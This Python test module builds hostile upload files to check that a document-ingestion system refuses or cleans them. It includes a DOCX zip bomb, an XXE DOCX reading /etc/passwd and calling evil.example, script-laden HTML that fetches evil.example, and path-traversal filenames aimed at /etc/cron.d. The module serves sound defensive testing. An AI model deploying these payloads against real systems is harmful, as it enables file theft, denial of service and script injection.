"""Hostile files for the reliability tests and bench/hostile.py, made on the fly.

Each is what a careless or malicious sender could hand the forum: a truncated or encrypted
PDF, a PDF of images only, a zero-byte file, a file over the limit, a PNG named .pdf, a DOCX zip
bomb, a DOCX with external entities, HTML full of script, text with NUL bytes or invalid
UTF-8, a 5 MB single paragraph. `refused` files must fail with the phrase given; `cleaned`
files are ingested with the hostile part gone.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from pathlib import Path

from tests.badfiles import make_bad_files

SCRIPT_MARKERS = ("alert(", "onerror", "onclick", "javascript:", "<script", "evil.example")


@dataclass(frozen=True)
class Hostile:
    path: Path
    phrase: str | None  # the reason must contain it; None: the file is ingested, cleaned


def _png(width: int = 64, height: int = 64) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def _image_only_pdf(path: Path) -> None:
    """Three pages, each a picture of text and no text layer (a scan)."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    page = canvas.Canvas(str(path), pagesize=A4)
    image = ImageReader(io.BytesIO(_png(400, 300)))
    for _ in range(3):
        page.drawImage(image, 50, 400, width=400, height=300)
        page.showPage()
    page.save()


def _minimal_docx(document_xml: bytes) -> dict[str, bytes]:
    content_types = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>'
    )
    return {"[Content_Types].xml": content_types, "_rels/.rels": rels, "word/document.xml": document_xml}


_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _write_zip(path: Path, parts: dict[str, bytes], big: tuple[str, bytes, bytes, bytes, int] | None = None) -> None:
    """parts as given; `big` = (name, head, repeated unit, tail, repeats), streamed so the test never holds it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        if big:
            name, head, unit, tail, repeats = big
            with archive.open(name, "w", force_zip64=True) as out:
                out.write(head)
                block = unit * 4096
                for _ in range(repeats // 4096):
                    out.write(block)
                out.write(tail)


def zip_bomb_docx(path: Path, inflated_mb: int = 800) -> Path:
    """A small DOCX whose document.xml inflates to `inflated_mb` MB of paragraphs."""
    parts = _minimal_docx(b"")
    del parts["word/document.xml"]
    unit = b"<w:p><w:r><w:t>" + b"a" * 200 + b"</w:t></w:r></w:p>"
    repeats = inflated_mb * 1_000_000 // len(unit)
    head = b'<?xml version="1.0" encoding="UTF-8"?><w:document ' + _W + b"><w:body>"
    _write_zip(path, parts, ("word/document.xml", head, unit, b"</w:body></w:document>", repeats))
    return path


def make_hostile_files(directory: Path, max_mb: float = 100.0) -> dict[str, Hostile]:
    """name -> the file and what must happen to it."""
    directory.mkdir(parents=True, exist_ok=True)
    bad = make_bad_files(directory / "bad")
    files = {
        "truncated_pdf": Hostile(bad["corrupt"][0], "corrupt PDF"),
        "encrypted_pdf": Hostile(bad["encrypted"][0], "encrypted PDF"),
        "zero_bytes": Hostile(bad["empty"][0], "empty file"),
        "non_utf8": Hostile(bad["non_utf8"][0], "not valid UTF-8"),
    }

    scanned = directory / "scanned-images-only.pdf"
    _image_only_pdf(scanned)
    files["image_only_pdf"] = Hostile(scanned, "no text could be extracted (a scanned PDF?")

    over = directory / "over-limit.txt"
    with open(over, "wb") as fh:
        fh.truncate(int(max_mb * 1_000_000) + 1)  # sparse: costs no disk
    files["over_limit"] = Hostile(over, "over the")

    png = directory / "photo.pdf"
    png.write_bytes(_png())
    files["png_named_pdf"] = Hostile(png, "not a PDF although named .pdf (it is a PNG image)")

    files["zip_bomb_docx"] = Hostile(zip_bomb_docx(directory / "bomb.docx"), "a zip bomb?")

    xxe = directory / "entities.docx"
    document = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        b'<!ENTITY remote SYSTEM "http://evil.example/x">]>\n<w:document ' + _W +
        b"><w:body><w:p><w:r><w:t>Secret: &xxe; &remote;</w:t></w:r></w:p></w:body></w:document>"
    )
    _write_zip(xxe, _minimal_docx(document))
    files["xxe_docx"] = Hostile(xxe, "declares a DTD or entities")

    html = directory / "scripted.html"
    html.write_text(
        "<html><head><title>Reactions</title><script>alert('x');fetch('http://evil.example')</script></head>"
        "<body onload=\"alert('load')\"><main><h1>Reactions to the white paper</h1>"
        "<p onclick=\"alert('click')\">Unions said the funding was not enough.</p>"
        "<img src=x onerror=\"alert('img')\"><script>document.write('<p>injected</p>')</script>"
        "<p><a href=\"javascript:alert('a')\">Charities</a> asked for statutory safeguards.</p>"
        "<iframe src=\"http://evil.example\"></iframe></main></body></html>",
        encoding="utf-8",
    )
    files["scripted_html"] = Hostile(html, None)

    nul = directory / "nul-bytes.txt"
    nul.write_bytes(b"A policy paragraph that looks fine.\n\n" + b"x" * 3000 + b"\x00\x00hidden\x00" + b"more text")
    files["nul_bytes"] = Hostile(nul, "a NUL byte at offset")

    mixed = directory / "mixed-encoding.md"
    mixed.write_bytes("# Notes\n\nValid text first. ".encode() + b"\xff\xfe broken \xc3\x28 bytes")
    files["invalid_utf8_md"] = Hostile(mixed, "not valid UTF-8")

    paragraph = directory / "one-paragraph.txt"
    with open(paragraph, "w", encoding="utf-8") as fh:
        sentence = "The council will review the plan and publish its findings in due course "
        for _ in range(5_000_000 // len(sentence) + 1):
            fh.write(sentence)
    files["five_mb_paragraph"] = Hostile(paragraph, "one paragraph is")
    return files


# Names an upload may arrive with (the browser sends whatever the sender's system allowed).
HOSTILE_NAMES = {
    "../../etc/cron.d/evil.md": "evil.md",
    "..\\..\\windows\\evil.md": "evil.md",
    "bell\x07and\x1b[31mred\x1b[0m.md": "belland_31mred_0m.md",
    "new\nline.md": "newline.md",
}
